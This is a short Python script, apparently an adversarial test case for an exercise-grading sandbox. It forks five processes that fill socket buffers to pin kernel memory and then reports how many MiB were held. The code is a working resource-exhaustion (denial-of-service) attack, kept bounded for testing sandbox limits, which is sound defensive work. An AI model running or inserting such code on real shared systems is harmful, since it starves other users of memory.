# attack: fills sockets with what nobody reads, in many processes: memory that the kernel holds for them
# exercise: ex01_map_dataset
# check: ex01.tabular.len
# slow: gigabytes take seconds
import os
import socket
import time

print("TRIED", flush=True)
chunk = b"x" * 65536
told, tell = os.pipe()
for _ in range(5):  # bounded: up to 1.3 GiB with what it costs
    if os.fork() == 0:
        sent, kept = 0, []
        try:
            while True:
                kept += socket.socketpair()
                for one in kept[-2:]:
                    one.setblocking(False)
                    one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
                    try:
                        while True:
                            sent += one.send(chunk)
                    except BlockingIOError:
                        pass
        except OSError as error:
            problem = error
        os.write(tell, sent.to_bytes(8, "little"))
        time.sleep(10)
        os._exit(0)
total = sum(int.from_bytes(os.read(told, 8), "little") for _ in range(5))
print(total >> 20, "MiB")
